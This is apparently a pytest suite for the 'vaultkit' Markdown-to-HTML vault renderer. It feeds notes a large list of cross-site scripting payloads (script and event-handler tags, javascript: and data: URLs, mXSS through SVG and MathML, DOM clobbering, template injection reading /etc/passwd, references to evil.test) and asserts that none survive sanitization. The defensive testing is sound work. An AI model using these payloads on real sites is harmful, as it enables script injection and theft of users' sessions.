"""Note text is hostile: whatever it holds, a body comes out with nothing in it that could run."""

from __future__ import annotations

import re
from pathlib import Path

import linkcheck
import pytest
import vaults
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from vaultkit import config
from vaultkit.vault import Vault

MARK = "alert(31337)"

PAYLOADS: dict[str, list[str]] = {
    "script": [
        f"<script>{MARK}</script>",
        f"<SCRIPT\n>{MARK}</SCRIPT\t>",
        f"text <script src=//evil.test/x.js></script> {MARK}",
        f"<scr<script>ipt>{MARK}</scr</script>ipt>",
        f"<scr%%x%%ipt>{MARK}</scr%%x%%ipt>",
        f"==<scr==ipt>{MARK}</script>",
        f"<noscript><p title='</noscript><script>{MARK}</script>'></noscript>",
        f"<!--><script>{MARK}</script>-->",
        f"<![CDATA[><script>{MARK}</script>]]>",
        f"<?php ?><script>{MARK}</script>",
    ],
    "event": [
        f"<img src=x onerror={MARK}>",
        f"<img/src='x'/onerror='{MARK}'>",
        f"<svg onload={MARK}>",
        f"<details open ontoggle={MARK}>x</details>",
        f"<input autofocus onfocus={MARK}>",
        f"<body onpageshow={MARK}>",
        f"<b onmouseover\x00={MARK}>x</b>",
        f"<a href='x' title='>' onclick={MARK}>x</a>",
    ],
    "address": [
        f"[x](javascript:{MARK})",
        f"[x](<java\tscript:{MARK}>)",
        f"[x](&#106;avascript:{MARK})",
        f"[x](\\x01javascript:{MARK})",
        f"[x]: javascript:{MARK}\n\n[x]",
        f"<javascript:{MARK}>",
        f"![x](javascript:{MARK})",
        f"![x](data:image/svg+xml,<svg onload={MARK}>)",
        f"<a href='vbscript:{MARK}'>x</a>",
        f'<a href="java%%x%%script:{MARK}">x</a>',
        f"<area href='javascript:{MARK}'>",
        f"[[javascript:{MARK}]]",
        f"![[javascript:{MARK}]]",
        f"[x](jar:javascript:{MARK}!/)",
        f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {MARK}",
    ],
    "breaking out": [
        f'[[A" onclick="{MARK}]]',
        f'[[A|"><img src=x onerror={MARK}>]]',
        f'![[x.png|" onerror="{MARK}]]',
        f'![[A#"><script>{MARK}</script>]]',
        f'![x" onerror="{MARK}](x.png)',
        f"![x](x.png \"t' onerror='{MARK}\")",
        f'> [!note" onclick="{MARK}] T\n> x',
        f"> [!<script>{MARK}</script>] T",
        f'> [!note|"><script>{MARK}</script>] T',
        f'- ["] x onclick={MARK}',
        f'```js" onclick="{MARK}\nx\n```',
        f"```<script>{MARK}</script>\nx\n```",
        f"# <img src=x onerror={MARK}>",
        f'# " onclick="{MARK}',
        f'x[^" onclick="{MARK}]\n\n[^" onclick="{MARK}]: y',
        f"^[<script>{MARK}</script>]",
        f'x ^" onclick="{MARK}',
        f'#tag"onclick={MARK}',
        f'| a |\n|:--" onclick="{MARK}|\n| b |',
        f"| <script>{MARK}</script> |\n| - |\n| <img src=x onerror={MARK}> |",
        f"$\\href{{javascript:{MARK}}}{{x}}$ $</math><script>{MARK}</script>$",
        f"$$\n\\text{{</mtext><img src=x onerror={MARK}>}}\n$$",
        f'```mermaid\ngraph TD; A["<img src=x onerror={MARK}>"]; click A "javascript:{MARK}"\n```',
        f"%%\n<script>{MARK}</script>",
    ],
    "foreign markup": [
        f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></mglyph></table></mtext></math>",
        f"<svg><style><img src=x onerror={MARK}></style></svg>",
        f"<svg><a xlink:href='javascript:{MARK}'><text>x</text></a></svg>",
        f"<math href='javascript:{MARK}'><mi>x</mi></math>",
        f"<svg><foreignObject><iframe srcdoc='<script>{MARK}</script>'></iframe></foreignObject></svg>",
        f"<template><script>{MARK}</script></template>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={MARK}>",
        f"<xmp><p title='</xmp><img src=x onerror={MARK}>'></xmp>",
        f"<title><a title='</title><img src=x onerror={MARK}>'></a></title>",
        f"<textarea></textarea><img src=x onerror={MARK}>",
    ],
    "frames and forms": [
        f"<iframe src='javascript:{MARK}'></iframe>",
        f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
        f"<object data='javascript:{MARK}'></object>",
        f"<embed src='javascript:{MARK}'>",
        f"<form action='javascript:{MARK}'><button>x</button></form>",
        f"<button formaction='javascript:{MARK}'>x</button>",
        f"<base href='javascript:{MARK}//'>",
        f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
        f"<link rel=stylesheet href='//evil.test/{MARK}.css'>",
        f"<style>@import 'javascript:{MARK}'</style>",
        f"<p style='background:url(javascript:{MARK})'>x</p>",
        f"<video><source onerror={MARK}></video>",
        f"<video poster='javascript:{MARK}'></video>",
        f"<a href=x ping='//evil.test/{MARK}'>x</a>",
    ],
    "clobbering": [
        f"<a id=defaultView href='tel:{MARK}'>x</a>",
        "<img name=getElementById>",
        "<p id=__proto__>x</p>",
        "<a name=body href=x>x</a>",
    ],
    "template": ["{{ 7*7 }}{% include '/etc/passwd' %}", "{{ config }} ${7*7} <%= 7*7 %> #{7*7}"],
    "front matter": [
        f'---\ntitle: "<script>{MARK}</script>"\naliases: [\'"><img src=x onerror={MARK}>\']\n---\nx',
        f"---\ncssclasses: ['x\" onclick=\"{MARK}']\nurl: javascript:{MARK}\nimage: 'javascript:{MARK}'\n---\nx",
        f"---\npermalink: '../../{MARK}'\ndescription: '\"><script>{MARK}</script>'\ntags: ['x\"onclick=\"{MARK}']\n---\nx",
        f"---\nlayout: '{{{{ 7*7 }}}}'\n'<script>{MARK}</script>': x\nlink: '[[A|<script>{MARK}</script>]]'\n---\nx",
    ],
    "canvas": [
        (
            '{"nodes": [{"id": "\\"><script>alert(31337)</script>", "type": "text", "x": 0, "y": 0, "width": 9, "height": 9, '
            '"text": "<img src=x onerror=alert(31337)>", "color": "red;background:url(javascript:alert(31337))"},'
            '{"id": "b", "type": "link", "x": 0, "y": 0, "width": 9, "height": 9, "url": "javascript:alert(31337)"},'
            '{"id": "c", "type": "group", "label": "<script>alert(31337)</script>", "background": "javascript:alert(31337)"}]}'
        )
    ],
}
"""By class; each would call MARK, or leave a trace of what it did, if it came through."""

CASES = [pytest.param(kind, text, id=f"{kind} {i}") for kind, texts in PAYLOADS.items() for i, text in enumerate(texts)]


def name_of(kind: str, i: int) -> str:
    return f"{kind} {i}.{'canvas' if kind == 'canvas' else 'md'}"


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    files = {name_of(kind, i): text for kind, texts in PAYLOADS.items() for i, text in enumerate(texts)}
    folder = tmp_path_factory.mktemp("hostile")
    return vaults.write(
        folder / "vault", {**files, "A.md": "a", "x.png": None, f"pay'\"><img src=x onerror={MARK}>.md": "x"}
    )


@pytest.fixture(scope="module", params=["safe", "off"])
def vault(request: pytest.FixtureRequest, root: Path, tmp_path_factory: pytest.TempPathFactory) -> Vault:
    loaded = config.load(root, overrides={"syntax.html": request.param})
    return Vault.open(root, config=loaded.config, cache_dir=tmp_path_factory.mktemp("cache"), jobs=1)


@pytest.mark.parametrize(("kind", "i"), [(kind, i) for kind, texts in PAYLOADS.items() for i in range(len(texts))])
def test_a_body_holds_nothing_that_could_run(vault: Vault, kind: str, i: int) -> None:
    html = vault.html(name_of(kind, i))
    assert linkcheck.body_problems(html) == []
    assert not re.search(r"\b49\b", lxml_html.fromstring(f"<div>{html}</div>").text_content())


def test_no_note_names_an_element(vault: Vault) -> None:
    for i in range(len(PAYLOADS["clobbering"])):
        assert not re.search(
            r"<[^<>]*\b(id|name)=['\"]?(defaultView|getElementById|__proto__|body)\b",
            vault.html(name_of("clobbering", i)),
        )


def test_the_site_of_hostile_notes_holds_nothing_that_could_run(root: Path, tmp_path: Path) -> None:
    vaults.build(root, tmp_path / "site")
    assert linkcheck.check(tmp_path / "site") == []
    assert not [
        url
        for url, data in vaults.tree(tmp_path / "site").items()
        if url.endswith(".html") and b"7*7" not in data and b">49<" in data
    ]


def test_no_address_of_a_body_leaves_by_itself(vault: Vault) -> None:
    bodies = [vault.html(name_of(kind, i)) for kind, texts in PAYLOADS.items() for i in range(len(texts))]
    assert not [
        body
        for body in bodies
        if re.search(r"<(?:img|audio|video|source|link|script)[^>]*(?:src|href)=['\"]?(?:https?:)?//", body)
    ]


def test_the_checker_sees_what_trusted_html_lets_through(root: Path, tmp_path: Path) -> None:
    loaded = config.load(root, overrides={"syntax.html": "trusted"})
    trusting = Vault.open(root, config=loaded.config, cache_dir=tmp_path, jobs=1)
    seen = [
        kind
        for kind, texts in PAYLOADS.items()
        for i in range(len(texts))
        if linkcheck.body_problems(trusting.html(name_of(kind, i)))
    ]
    assert len(seen) >= 30


FRAGMENTS = st.sampled_from(
    [
        *(part for texts in PAYLOADS.values() for text in texts for part in re.split(r"(?<=[ >\])])", text) if part),
        *"[[ ]] ![[ | %% == $ $$ ` ``` > - # ^ \\ < > \" ' &lt; &#x3c; \n \t \x00".split(" "),
        "\n\n",
        " ",
    ]
)


@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=6)), max_size=14).map("".join))
def test_no_mixture_of_fragments_runs(text: str) -> None:
    from vaultkit.model import Source, VaultPath
    from vaultkit.parse.note import parse
    from vaultkit.settings import Syntax

    source = Source(VaultPath("A.md"), "note", "0", data=text.encode("utf-8", "replace"))
    document = parse(source, Syntax())
    assert linkcheck.body_problems("".join(part for part in document.body if isinstance(part, str))) == []
